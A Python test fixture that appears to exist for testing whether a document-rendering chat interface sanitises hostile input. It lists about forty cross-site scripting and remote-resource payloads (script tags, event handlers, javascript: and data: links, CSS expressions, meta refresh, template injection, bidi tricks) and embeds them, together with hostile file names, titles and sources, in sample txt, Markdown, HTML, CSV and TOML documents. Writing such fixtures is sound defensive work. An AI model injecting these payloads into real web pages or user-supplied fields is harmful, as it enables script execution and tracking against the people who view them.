"""Hostile texts, and a corpus made of them. Each tries to run `hit()`, or to reach another host, when it is shown."""

from __future__ import annotations

import json

ELSEWHERE = "http://elsewhere.invalid"

PAYLOADS = {
    "script": "<script>hit()</script>",
    "script in capitals": f"<ScRiPt src={ELSEWHERE}/x.js></sCrIpT >",
    "script cut in two": "<scr<script>ipt>hit()</scr</script>ipt>",
    "handler of an image": "<img src=x:y onerror=hit()>",
    "handler without spaces": "<img/src='x:y'/onerror=hit()>",
    "image from elsewhere": f"<img src={ELSEWHERE}/p.png srcset='{ELSEWHERE}/q.png 2x'>",
    "svg handler": "<svg onload=hit()><circle r=9></svg>",
    "svg script": "<svg><script>hit()</script><a xlink:href='javascript:hit()'>a</a></svg>",
    "svg use": f"<svg><use href='{ELSEWHERE}/s.svg#a'/></svg>",
    "math link": "<math><mi xlink:href='javascript:hit()'>m</mi></math>",
    "frame": "<iframe src='javascript:parent.hit()'></iframe>",
    "frame with a document": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "object and embed": f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    "style sheet": f"<link rel=stylesheet href={ELSEWHERE}/s.css>",
    "style element": f"<style>@import '{ELSEWHERE}/s.css'; #chat {{ display: none }}</style>",
    "style attribute": f"<b style='position:fixed;inset:0;background:url({ELSEWHERE}/b.png)'>all</b>",
    "css expression": "<b style='width:expression(hit());-moz-binding:url(x)'>w</b>",
    "refresh": f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    "base": f"<base href='{ELSEWHERE}/'>",
    "javascript link": "<a href='javascript:hit()'>press</a>",
    "javascript link in disguise": "<a href='&#106;ava\tscript&colon;hit()'>press</a>",
    "data link": "<a href='data:text/html,<script>hit()</script>'>press</a>",
    "Markdown link": "[press](javascript:hit())",
    "Markdown image": f"![picture]({ELSEWHERE}/i.png)",
    "Markdown image that breaks out": '![p](x" onerror="hit())',
    "Markdown autolink": "<javascript:hit()>",
    "focus": "<input autofocus onfocus=hit()><details open ontoggle=hit()><summary>d</summary></details>",
    "media": "<video><source onerror=hit()></video><audio src=x:y onerror=hit()></audio>",
    "form": f"<form action={ELSEWHERE}/><button formaction='javascript:hit()'>send</button></form>",
    "entities": "&lt;script&gt;hit()&lt;/script&gt;",
    "numeric entities": "&#x3C;img src=x:y onerror=hit()&#x3E; &#60script&#62hit()&#60/script&#62",
    "end tags": "</textarea></title></style></script></template><script>hit()</script>",
    "comment": "--><script>hit()</script><!-- <![CDATA[<script>hit()</script>]]>",
    "out of an attribute": "\"><img src=x:y onerror=hit()> ' onmouseover='hit() ` onclick=`hit()",
    "templates": "${hit()} `${hit()}` {{constructor.constructor('hit()')()}} {{{hit}}} @children <%= hit() %>",
    "noscript": "<noscript><p title='</noscript><img src=x:y onerror=hit()>'></noscript>",
    "escapes of a string": "\\u003cscript\\u003ehit()\\u003c/script\\u003e \\x3cimg src=x:y onerror=hit()\\x3e",
    "broken tags": "<img src=x:y onerror=hit() <b <<script>>hit()</ script",
    "custom element": "<gradio-app src='http://elsewhere.invalid'></gradio-app><x-y onclick=hit()>z</x-y>",
    "direction": "\u202e>tpircs/<()tih>tpircs<\u202c \u2028\u200b",
}

BAD_NAME = "beacon <img src=x:y onerror=hit()> ' onmouseover='hit() & ${hit()}.md"
BAD_TITLE = "Signals <script>hit()</script><img src=x:y onerror=hit()>"
BAD_SOURCE = '"><svg onload=hit()> [a](javascript:hit())'


def corpus() -> dict[str, str | bytes]:
    """Documents of several formats that hold all the payloads, under a hostile name, title and source."""
    lines = "\n\n".join(PAYLOADS.values())
    some = list(PAYLOADS.values())[::5]
    table = "\n".join(f"| {at} | {text.replace('|', '')} |" for at, text in enumerate(some))
    sources = "\n".join(
        f"[documents.{json.dumps(name)}]\ntitle = {json.dumps(BAD_TITLE)}\nsource = {json.dumps(BAD_SOURCE)}\n"
        f"date = {json.dumps('<b onclick=hit()>today</b>')}\n"
        for name in ("signals.txt",)
    )
    rows = "".join(f'{at},"{text.replace(chr(34), chr(34) * 2)}"\n' for at, text in enumerate(some))
    return {
        "signals.txt": f"The gull rock signal was painted by Edith Marlow in 1871.\n\n{lines}\n\nThat is all.\n",
        BAD_NAME: f"# Beacon {PAYLOADS['handler of an image']}\n\nThe beacon lamp was built by Tomas Arnesen.\n\n"
        f"{lines}\n\n- {PAYLOADS['svg handler']}\n\n| number | text |\n|---|---|\n{table}\n",
        "harbour.html": "<html><head><title>Harbour &lt;img src=x:y onerror=hit()&gt;</title></head><body>"
        f"<p>The harbour crane was lent by Peter Holm.</p><p>{PAYLOADS['handler of an image']} after the image</p>"
        f"<p>{PAYLOADS['entities']}</p>{lines}</body></html>",
        "wages.csv": f"number,text\n900,The wages clerk was Maud Lindqvist\n{rows}",
        "sources.toml": sources,
    }
